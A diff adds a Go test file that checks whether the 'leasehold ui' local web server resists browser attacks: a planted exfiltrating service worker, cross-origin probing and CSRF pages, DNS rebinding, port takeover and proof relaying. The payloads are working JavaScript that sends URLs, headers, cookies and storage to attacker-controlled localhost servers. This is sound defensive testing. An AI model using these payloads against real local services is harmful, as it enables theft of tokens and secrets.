@@ -1,0 +1,415 @@
+//go:build linux
+
+package ui
+
+import (
+	"io"
+	"net"
+	"net/http"
+	"net/http/httputil"
+	"net/url"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/leasehold-go/leasehold/proof/interop/browser"
+)
+
+// attacker is a server of another user of the machine. It keeps all that reaches it.
+type attacker struct {
+	t       testing.TB
+	servers []*http.Server
+	port    string
+	pages   map[string]string // what it answers, by path; anything else: itself
+	proofs  http.Handler      // if not nil: by whom it has itself proved
+
+	mu      sync.Mutex
+	heard   []string      // requests, with their headers and bodies
+	arrived chan struct{} // has one after each request, unless it is full
+}
+
+// attack has an attacker serve a port, on both addresses of this machine; "0": any.
+func attack(t testing.TB, port string, a *attacker) *attacker {
+	t.Helper()
+	a.t, a.port, a.arrived = t, port, make(chan struct{}, 1)
+	for _, host := range []string{"127.0.0.1", "::1"} {
+		l, err := net.Listen("tcp", net.JoinHostPort(host, a.port))
+		if err != nil && host == "::1" {
+			continue // there is none, or it is taken: then nobody asks there
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, a.port, _ = net.SplitHostPort(l.Addr().String())
+		s := &http.Server{Handler: a, ReadHeaderTimeout: patience}
+		a.servers = append(a.servers, s)
+		go func() { _ = s.Serve(l) }()
+	}
+	t.Cleanup(a.leave)
+	return a
+}
+
+// leave gives the port up.
+func (a *attacker) leave() {
+	for _, s := range a.servers {
+		_ = s.Close()
+	}
+	a.servers = nil
+}
+
+func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	dump, _ := httputil.DumpRequest(r, true)
+	a.mu.Lock()
+	a.heard = append(a.heard, r.RequestURI+"\n"+string(dump))
+	a.mu.Unlock()
+	select {
+	case a.arrived <- struct{}{}:
+	default:
+	}
+	h := w.Header()
+	h.Set("Access-Control-Allow-Origin", "*")
+	h.Set("Access-Control-Allow-Headers", "*")
+	if to := r.URL.Query().Get("redirect"); to != "" {
+		http.Redirect(w, r, to, http.StatusFound)
+		return
+	}
+	switch answer, ok := a.pages[r.URL.Path]; {
+	case a.proofs != nil && r.URL.Path == "/who":
+		a.proofs.ServeHTTP(w, r)
+	case strings.HasSuffix(r.URL.Path, ".js"):
+		h.Set("Content-Type", "text/javascript")
+		_, _ = io.WriteString(w, answer)
+	case r.URL.Path == "/events":
+		h.Set("Content-Type", "text/event-stream")
+		_, _ = io.WriteString(w, answer)
+	case ok:
+		h.Set("Content-Type", "text/html")
+		_, _ = io.WriteString(w, answer)
+	default:
+		h.Set("Content-Type", "text/html")
+		_, _ = io.WriteString(w, "<p>the attacker's")
+	}
+}
+
+// wait waits until a request has come since the last call, or since the beginning.
+func (a *attacker) wait() {
+	a.t.Helper()
+	select {
+	case <-a.arrived:
+	case <-time.After(patience):
+		a.t.Fatal("nobody has asked the attacker")
+	}
+}
+
+// loot is all that has reached it.
+func (a *attacker) loot() string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return strings.Join(a.heard, "\n\n")
+}
+
+// tokenOf is the token in a URL of leasehold ui.
+func tokenOf(t testing.TB, at string) string {
+	t.Helper()
+	_, token, ok := strings.Cut(at, "#token=")
+	if !ok || len(token) < 32 {
+		t.Fatalf("there is no token in %s", at)
+	}
+	return token
+}
+
+// portOf is the port of a URL.
+func portOf(t testing.TB, at string) string {
+	t.Helper()
+	u, err := url.Parse(at)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return u.Port()
+}
+
+// status is what leasehold ui answers to who sends it a token.
+func status(t testing.TB, at, token string) int {
+	t.Helper()
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://127.0.0.1:"+portOf(t, at)+"/show", strings.NewReader(`{}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header.Set("Authorization", "Bearer "+token)
+	r.Header.Set("Origin", "http://"+r.Host)
+	r.Header.Set("Content-Type", "application/json")
+	answer, err := http.DefaultClient.Do(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer answer.Body.Close()
+	return answer.StatusCode
+}
+
+// get returns what a server answers.
+func get(t testing.TB, at string) string {
+	t.Helper()
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, at, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	answer, err := http.DefaultClient.Do(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer answer.Body.Close()
+	b, err := io.ReadAll(answer.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// opensWith tries everything in loot that may be a token at leasehold ui, and returns
+// what is one.
+func opensWith(t testing.TB, at, loot string) string {
+	t.Helper()
+	tried := map[string]bool{}
+	for _, token := range regexp.MustCompile(`[A-Za-z0-9_-]{20,}`).FindAllString(loot, -1) {
+		if !tried[token] && status(t, at, token) != http.StatusUnauthorized {
+			return token
+		}
+		tried[token] = true
+	}
+	return ""
+}
+
+// planted is a service worker that answers for the origin that it was left on, and
+// tells its owner of everything.
+func planted(owner string) string {
+	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
+	return `addEventListener("install", () => skipWaiting());
+	addEventListener("activate", (e) => e.waitUntil(clients.claim()));
+	addEventListener("fetch", (e) => {
+		fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: [e.request.url, JSON.stringify([...e.request.headers])].join() });
+		if (e.request.mode === "navigate") e.respondWith(new Response(` + js(page) + `, { headers: { "Content-Type": "text/html" } }));
+	});`
+}
+
+// TestWhatWasLeftOnThePortBeforeDoesNotSeeTheURL: a browser asks the service workers of
+// an origin first, and an address with its port may have been somebody else's origin.
+func TestWhatWasLeftOnThePortBeforeDoesNotSeeTheURL(t *testing.T) {
+	s := newScene(t, "native")
+	owner := attack(t, "0", &attacker{})
+	before := attack(t, "0", &attacker{pages: map[string]string{"/sw.js": planted("http://127.0.0.1:" + owner.port)}})
+	tab := chromium.Page(t)
+	for _, host := range []string{"127.0.0.1", "localhost"} {
+		tab.Open("http://" + host + ":" + before.port + "/")
+		tab.Run(`await navigator.serviceWorker.register("/sw.js"); await navigator.serviceWorker.ready; while (!navigator.serviceWorker.controller) await new Promise((r) => setTimeout(r, 20))`)
+	}
+	before.leave()
+
+	server := s.start("ui", "--addr", "127.0.0.1:"+before.port)
+	at := server.line()
+	tab.Open(at)
+	tab.Wait(`document.getElementById("live")?.textContent === "live" || document.body.innerText.includes("the attacker answers")`)
+	if said := browser.Eval[string](tab, "document.body.innerText"); strings.Contains(said, "the attacker") {
+		t.Errorf("the page is %q", said)
+	}
+	if strings.Contains(owner.loot()+before.loot(), tokenOf(t, at)) {
+		t.Error("the attacker has the token")
+	}
+	// It is there, and would answer.
+	tab.Open("http://127.0.0.1:" + before.port + "/")
+	tab.Wait(`document.body.innerText.includes("the attacker answers")`)
+}
+
+// tries is a page that asks the page of leasehold ui in every way that a browser has.
+func tries(target string) string {
+	return `<!doctype html><script>
+	const target = ` + js(target) + `, tried = [];
+	const tell = (what) => fetch("/told", { method: "POST", credentials: "include", body: String(what) });
+	const post = { method: "POST", body: JSON.stringify({ key: "job", grant: "g", version: "v", typed: "job", reason: "" }) };
+	async function ask() {
+		for (const path of ["/", "/app.js", "/events", "/who?nonce=n", "/break", "/rate", "/look"])
+			for (const credentials of ["include", "omit"])
+				for (const how of [{}, { mode: "no-cors" }, { headers: { "Content-Type": "application/json" }, ...post }, { headers: { Authorization: "Bearer x" } }, { mode: "no-cors", ...post }])
+					for (const url of [target + path, "/?redirect=" + encodeURIComponent(target + path)])
+						tried.push(await fetch(url, { credentials, cache: "no-store", ...how }).then((r) => r.text()).catch(() => ""));
+		for (const url of [target, "/?redirect=" + encodeURIComponent(target + "/events")])
+			await new Promise((done) => { const e = new EventSource(url === target ? url + "/events" : url, { withCredentials: true }); e.onmessage = (m) => tried.push(m.data); e.onopen = () => tried.push("open"); e.onerror = () => { e.close(); done() } });
+		await new Promise((done) => { const w = new WebSocket(target.replace("http", "ws") + "/events"); w.onopen = () => tried.push("open"); w.onclose = done });
+		for (const tag of ["script", "img", "link", "iframe", "object", "embed"])
+			await new Promise((done) => {
+				const e = document.createElement(tag);
+				e.onload = e.onerror = done;
+				setTimeout(done, 1000);
+				if (tag === "link") { e.rel = "stylesheet"; e.href = target + "/app.css" } else if (tag === "object") e.data = target + "/"; else e.src = target + (tag === "script" ? "/app.js" : "/");
+				document.head.append(e);
+				if (tag === "iframe" || tag === "object" || tag === "embed") document.body.append(e);
+			});
+		for (let i = 0; i < frames.length; i++) try { const f = frames[i]; tried.push(f.location.href, JSON.stringify(f.localStorage)) } catch {}
+		tried.push(document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(performance.getEntries()));
+		for (const db of await indexedDB.databases()) tried.push(db.name);
+		await tell(tried.join("\n"));
+		return tried.join("\n");
+	}
+	</script><body><a id="link" href="` + target + `/">the locks</a>
+	<form id="get" action="` + target + `/"></form>
+	<form id="post" method="post" enctype="text/plain" action="` + target + `/break"><input name='{"key":"job","typed":"job","grant":"g","version":"v","reason":"' value='"}'></form>`
+}
+
+func TestPageOnAnotherPortGetsNothingAndBreaksNothing(t *testing.T) {
+	s := newScene(t, "native")
+	p := s.ui("--allow-break", "--token-file", "token")
+	h := s.hold("job")
+	p.Wait(says("job", "held", h.token))
+	u, err := url.Parse(p.url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := attack(t, "0", &attacker{pages: map[string]string{"/": tries(p.origin())}})
+	for _, host := range []string{u.Hostname(), "localhost", "127.0.0.1"} {
+		at := "http://" + host + ":" + evil.port + "/"
+		tab := p.Another()
+		tab.Open(at)
+		got := browser.Eval[string](tab, "ask()")
+		if strings.Contains(got, "open") || strings.Contains(got, "job") || strings.Contains(got, "<html") {
+			t.Errorf("from %s it got %q", at, got)
+		}
+		// What it opens has no way back to it, and what links to it says nothing.
+		tab.Run(`globalThis.opened = open(` + js(p.origin()+"/") + `)`)
+		tab.Wait(`opened.closed || (() => { try { return opened.location.href === "x" } catch { return true } })()`)
+		tab.Run(`document.getElementById("link").click()`)
+		tab.Wait(`document.getElementById("live")?.textContent === "live"`)
+		tab.Run(`location = ` + js(at+"?from=a-link"))
+		tab.Wait(`location.search === "?from=a-link"`)
+		tab.Run(`tell([document.referrer, JSON.stringify(history.state), history.length, document.cookie].join())`)
+		tab.Open(at + "?redirect=" + url.QueryEscape(p.origin()+"/"))
+		tab.Wait(`document.getElementById("live")?.textContent === "live"`)
+		tab.Open(at)
+		tab.Run(`document.getElementById("post").submit()`)
+		tab.Wait(`document.body.innerText.includes("The request comes from another site")`)
+		tab.Close()
+	}
+	loot := evil.loot()
+	for what, secret := range map[string]string{"the token": tokenOf(t, p.url), "the secret": strings.TrimSpace(read(t, s.dir, "token")), "a cookie": "\nCookie:"} {
+		if strings.Contains(loot, secret) {
+			t.Errorf("the attacker has %s", what)
+		}
+	}
+	if found := opensWith(t, p.url, loot); found != "" {
+		t.Errorf("the attacker gets in by %q", found)
+	}
+	if status(t, p.url, tokenOf(t, p.url)) == http.StatusUnauthorized {
+		t.Error("nobody gets in, not even with the token")
+	}
+	if out := s.run("get", "job", "--json"); !strings.Contains(out, h.token) || !strings.Contains(out, `"held"`) {
+		t.Errorf("the record: %s", out)
+	}
+	if complaints := p.Problems(); len(complaints) > 0 {
+		t.Errorf("the page complains: %q", complaints)
+	}
+}
+
+// TestPageWhoseNameLeadsHereNowIsRefused plays DNS rebinding: the page is of somebody
+// else's server, and then its name and port are ours.
+func TestPageWhoseNameLeadsHereNowIsRefused(t *testing.T) {
+	s := newScene(t, "native")
+	evil := attack(t, "0", &attacker{})
+	tab := chromium.Page(t)
+	tab.Open("http://" + browser.ForeignName + ":" + evil.port + "/")
+	tab.Wait(`document.body.innerText.includes("the attacker")`)
+	evil.leave()
+	server := s.start("ui", "--addr", "127.0.0.1:"+evil.port, "--allow-break")
+	token := tokenOf(t, server.line())
+	got := browser.Eval[[]int](tab, `(async () => {
+		const headers = { Authorization: "Bearer " + `+js(token)+`, "Content-Type": "application/json" }, tried = [];
+		for (const path of ["/", "/app.js", "/who?nonce=n", "/events"]) tried.push((await fetch(path, { headers })).status);
+		for (const path of ["/show", "/rate", "/look", "/break"]) tried.push((await fetch(path, { method: "POST", headers, body: "{}" })).status);
+		return tried;
+	})()`)
+	if js(got) != "[421,421,421,421,421,421,421,421]" {
+		t.Errorf("it got %v", got)
+	}
+}
+
+// lies is a stream of leasehold ui, as somebody else makes it up.
+const lies = `event: hello
+data: {"page":"x","table":"a table of lies","location":"here","layout":"native","allowBreak":true,"started":1}
+
+event: list
+data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}
+
+`
+
+// TestWhoTakesThePortOfAPageThatIsOpenGetsNothingOfWorth: what it gets opens nothing
+// after a restart with the same secret, and what it says is not shown.
+func TestWhoTakesThePortOfAPageThatIsOpenGetsNothingOfWorth(t *testing.T) {
+	s := newScene(t, "native")
+	addr := freePort(t)
+	flags := []string{"--addr", addr, "--token-file", "token", "--allow-break"}
+	p := s.ui(flags...)
+	h := s.hold("job")
+	p.Wait(says("job", "held", h.token))
+	reloaded := p.Another()
+	reloaded.Open(p.origin() + "/")
+	reloaded.Wait(`document.getElementById("live").textContent === "live"`)
+	p.Run(`globalThis.lied = false; new MutationObserver(() => { lied ||= document.body.innerText.includes("a table of lies") || document.body.innerText.includes("a lie") })
+		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)
+	_, port, _ := net.SplitHostPort(addr)
+
+	// It has asked before, as everybody may, and says the same again.
+	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
+
+	p.server.kill()
+	owner := attack(t, "0", &attacker{})
+	thief := attack(t, port, &attacker{pages: map[string]string{
+		"/": "<p>the attacker's", "/events": lies, "/who": said, "/sw.js": planted("http://127.0.0.1:" + owner.port),
+	}})
+	thief.wait()
+	reloaded.Open(p.origin() + "/")
+	reloaded.Wait(`document.body.innerText.includes("the attacker")`)
+	reloaded.Run(`await navigator.serviceWorker.register("/sw.js"); await navigator.serviceWorker.ready`)
+	reloaded.Run(`const found = [location.href, document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage), JSON.stringify(history.state)];
+		for (const { name } of await indexedDB.databases()) found.push(name);
+		await fetch("/told", { method: "POST", body: found.join("\n") })`)
+	p.Wait(`document.getElementById("live").textContent === "stale" && document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
+	if got := browser.Eval[string](p.Page, `import("/state.js").then((m) => m.post("/break", { key: "job" })).then(() => "sent", (e) => e.message)`); !strings.Contains(got, "nothing was sent") {
+		t.Errorf("what the page is asked to break is %s", got)
+	}
+	if browser.Eval[bool](p.Page, "globalThis.lied") {
+		t.Error("what the attacker says was shown")
+	}
+	thief.leave()
+
+	again := s.start(append([]string{"ui"}, flags...)...)
+	at := again.line()
+	p.Wait(`document.getElementById("live").textContent === "live" && document.getElementById("banner").hidden`)
+	next := s.hold("other")
+	p.Wait(says("other", "held", next.token))
+	loot := thief.loot() + owner.loot()
+	if strings.Contains(loot, strings.TrimSpace(read(t, s.dir, "token"))) {
+		t.Error("the attacker has the secret")
+	}
+	if found := opensWith(t, at, loot); found != "" {
+		t.Errorf("the attacker gets in by %q", found)
+	}
+	if status(t, at, tokenOf(t, at)) == http.StatusUnauthorized {
+		t.Error("nobody gets in, not even with the token")
+	}
+}
+
+// TestWhoPassesOnTheProofOfAServerOnAnotherPortGetsNothing: the proof is true, but who
+// sits on the page's port is not the one that it is of.
+func TestWhoPassesOnTheProofOfAServerOnAnotherPortGetsNothing(t *testing.T) {
+	s := newScene(t, "native")
+	p := s.ui("--token-file", "token")
+	elsewhere := s.start("ui", "--token-file", "token")
+	at := elsewhere.line()
+	p.server.kill()
+	thief := attack(t, portOf(t, p.url), &attacker{
+		proofs: httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: "127.0.0.1:" + portOf(t, at)}),
+	})
+	p.Wait(`document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
+	if found := opensWith(t, at, thief.loot()); found != "" {
+		t.Errorf("the attacker gets in by %q", found)
+	}
+}
